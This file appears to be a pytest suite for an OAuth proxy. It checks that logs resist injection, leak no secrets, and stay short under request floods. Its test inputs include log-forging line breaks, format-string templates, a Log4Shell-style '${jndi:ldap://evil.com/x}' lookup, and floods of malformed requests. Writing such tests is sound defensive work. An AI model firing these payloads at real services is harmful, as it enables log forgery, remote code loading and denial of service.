"""What strangers send never writes the log: one line for each event, no line of theirs, and no storm."""

import io
import json
import logging
from collections.abc import Callable, Iterator
from typing import Literal
from urllib.parse import parse_qs, urlsplit

import pytest

from oauth_proxy.telemetry import configure_logging
from tests.support.browser import NAVIGATING, Visitor
from tests.support.login import issued_codes, issued_tokens, query
from tests.support.raw_http import Login, Wire, location, wired
from tests.support.sessions import new_cookie_line
from tests.tally import tried

CLOSE = "Connection: close"
HANG_UPS = "hang-ups"
FORGED = "2030-01-01T00:00:00.000Z INFO    access: GET /forged 200 user=admin"
BREAKS = ["\r\n", "\n", "\r", "\u2028", "\x85", "\x1b[2J\x1b[1;1H", "\x0b\x0c", "\x00", "\u202e\x00"]
TEMPLATES = [
    "%s%s%n%(user)s",
    "{0.__class__} {user}",
    "${jndi:ldap://evil.com/x}",
    '","user":"admin',
    "\U0001f608",
]
INJECTIONS = [each + FORGED for each in BREAKS] + TEMPLATES


@pytest.fixture(params=["text", "json"])
def form(request: pytest.FixtureRequest) -> Literal["text", "json"]:
    chosen: Literal["text", "json"] = request.param
    return chosen


@pytest.fixture
def log(form: Literal["text", "json"]) -> Iterator[io.StringIO]:
    """What the people who run it would read, as the command line sets it up."""
    root, quiet = logging.getLogger(), logging.getLogger("asyncio")
    before = root.handlers[:], root.level, quiet.level
    stream = io.StringIO(newline="")
    configure_logging(form, stream)
    yield stream
    root.handlers[:], level, quiet_level = before
    root.setLevel(level)
    quiet.setLevel(quiet_level)


def quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def carrying(wire: Wire, text: str) -> list[bytes]:
    """Requests that carry the text, raw or quoted, wherever a request has room for it."""
    raw, host, close = text.encode(), wire.host.encode(), b"\r\nConnection: close\r\n"
    callback = f"/oauth2/callback?state=x&error={quoted(text)}&error_description={quoted(text)}"
    return [
        wire.request(f"/{quoted(text)}?{quoted(text)}", *NAVIGATING, "Connection: close"),
        wire.request(callback, "Connection: close"),
        b"GET /%b HTTP/1.1\r\nHost: %b%b\r\n" % (raw, host, close),
        b"GET / HTTP/1.1\r\nHost: %b%b\r\n" % (raw, close),
        b"GET / HTTP/1.1\r\nHost: %b%bUser-Agent: %b\r\nReferer: %b\r\n\r\n" % (host, close, raw, raw),
        b"GET / HTTP/1.1\r\nHost: %b%bCookie: oauth_proxy=%b\r\n\r\n" % (host, close, raw),
        b"%b / HTTP/1.1\r\nHost: x\r\n\r\n" % raw,
    ]


async def test_nothing_a_stranger_sends_begins_a_line_or_moves_the_cursor(
    log: io.StringIO, form: Literal["text", "json"], capsys: pytest.CaptureFixture[str]
) -> None:
    async with wired(log={"access": "true", "format": form}) as wire:
        for text in INJECTIONS:
            for request in tried(carrying(wire, text)):
                await wire.send(request)
    requests = capsys.readouterr().err
    assert requests.count("\n") > 4 * len(INJECTIONS)
    written = log.getvalue() + requests
    assert not set(map(ord, written)) & ({*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029} - {0x0A})
    lines = written.split("\n")[:-1]
    assert len(lines) > len(INJECTIONS)
    assert not [line for line in lines if line.startswith("2030")]
    if form == "json":
        assert all(json.loads(line)["level"] in ("info", "warning") for line in lines)
    else:
        assert all(line[24:].startswith((" INFO ", " WARNING ")) for line in lines), lines


async def test_what_frame_io_says_in_a_callback_is_one_line(
    log: io.StringIO, form: Literal["text", "json"]
) -> None:
    async with wired() as wire:
        for text in tried(INJECTIONS[:9]):  # the tenth of a kind may be held back
            started = await wire.ask("/oauth2/start?rd=/page", *NAVIGATING)
            state = query(started.get("Location") or "")["state"]
            before = len(log.getvalue())
            target = f"/oauth2/callback?state={state}&error=access_denied&error_description={quoted(text)}"
            answer = await wire.ask(target, *NAVIGATING, new_cookie_line(started))
            assert answer.status == 403
            assert b"forged" not in answer.body
            written = log.getvalue()[before:]
            assert written.count("\n") == 1
            assert written.removesuffix("\n").isprintable()


async def test_no_secret_of_a_login_and_no_cookie_is_in_the_log(
    log: io.StringIO, form: Literal["text", "json"], visitor: Visitor, capsys: pytest.CaptureFixture[str]
) -> None:
    async with wired(log={"access": "true", "format": form}) as wire:
        login = await wire.login(visitor, "/page?secret=in-the-query")
        await wire.ask(
            "/page?token=in-the-query", login.cookie, "Authorization: Bearer in-a-header", "X-Api-Key: in-a-header"
        )
        await wire.ask(login.callback, login.attempt)
        issued = issued_codes(wire.stage) | issued_tokens(wire.stage)
    # Frame.io, which runs in this process too, keeps a log of its own.
    written = "\n".join(line for line in log.getvalue().splitlines() if "aiohttp.access" not in line)
    written += capsys.readouterr().err
    assert ("GET /page 200" if form == "json" else "status=200 method=GET path=/page") in written
    sealed = [value for value in login.values.values() if len(value) > 20]
    assert sealed
    for secret in (*issued, *wire.stage.keys, *sealed, "in-the-query", "in-a-header", "state="):
        assert secret not in written


STATES: dict[str, str] = {}
"""A state that each proxy gave out, whose cookie never comes back."""
USERINFO = [
    "http://somebody:pass-word@{host}/x", "http://somebody:pass-word@{host}", "HTTP://somebody:pass-word@evil.com/x",
    "http://somebody:pass/word@{host}/x", "http:somebody:pass-word@{host}/x", "somebody:pass-word@{host}",
    "//somebody:pass-word@{host}/x", "ftp://somebody:pass-word@{host}/x", "http://somebody:pass-word@{host}/a@b",
]  # fmt: skip


async def test_user_information_in_an_address_is_never_a_line(
    log: io.StringIO, form: Literal["text", "json"], capsys: pytest.CaptureFixture[str]
) -> None:
    async with wired(log={"access": "true", "format": form}) as wire:
        for target in USERINFO:
            for method in ("GET", "OPTIONS", "CONNECT"):
                await wire.send(wire.request(target.format(host=wire.host), CLOSE, method=method))
    written = log.getvalue() + capsys.readouterr().err
    assert written.count("request_id") > 2 * len(USERINFO)
    assert "somebody" not in written
    assert "word" not in written


STORMS: dict[str, Callable[[Wire, int], bytes]] = {
    "bytes that are no request": lambda wire, n: b"\x16\x03\x01 %d\r\n\r\n" % n,
    "another host": lambda wire, n: wire.request(f"/{n}", CLOSE, host=f"evil{n}.com"),
    "cookies that are none": lambda wire, n: wire.request("/x", CLOSE, f"Cookie: oauth_proxy=1.{n}; \x01{n}=\x02"),
    "callbacks of nobody": lambda wire, n: wire.request(f"/oauth2/callback?state={n}", CLOSE, *NAVIGATING),
    "one attempt's state, again and again": lambda wire, n: wire.request(
        f"/oauth2/callback?state={STATES[wire.origin]}&code={n}", CLOSE, *NAVIGATING
    ),
    "odd methods": lambda wire, n: wire.request(f"/{n}", CLOSE, method=f"BREW{n}"),
    HANG_UPS: lambda wire, n: wire.request("/page", f"Content-Length: {n + 10}", method="POST"),
}


@pytest.mark.parametrize("what", STORMS)
async def test_a_storm_of_bad_requests_is_a_bounded_number_of_lines(
    log: io.StringIO, form: Literal["text", "json"], what: str
) -> None:
    """CVE-2025-69230; and a client that hangs up leaves no traceback."""
    async with wired() as wire:
        started = await wire.ask("/oauth2/start", *NAVIGATING)
        [STATES[wire.origin]] = parse_qs(urlsplit(location(started)).query)["state"]
        for number in tried(range(700)):
            request = STORMS[what](wire, number)
            if what == HANG_UPS:
                async with wire.connected() as (_, writer):
                    writer.write(request)
            else:
                await wire.send(request)
        lines = log.getvalue().splitlines()
    assert len(lines) < 40, lines[:40]
    assert "Traceback" not in log.getvalue()


async def test_ten_thousand_bad_cookies_in_a_row_are_not_a_line(
    log: io.StringIO, wire: Wire, editor: Login
) -> None:
    before = len(log.getvalue().splitlines())
    pipelined = [
        wire.request("/page", f"Cookie: a=\x80; oauth_proxy=1.{number}; =; ;") for number in range(10_000)
    ]
    raw = await wire.stage.raw(b"".join(pipelined) + wire.request("/page", "Connection: close"))
    assert raw.count(b"HTTP/1.1 401 ") == 10_001
    assert len(log.getvalue().splitlines()) - before <= 1
    assert (await wire.ask("/page", editor.cookie)).status == 200
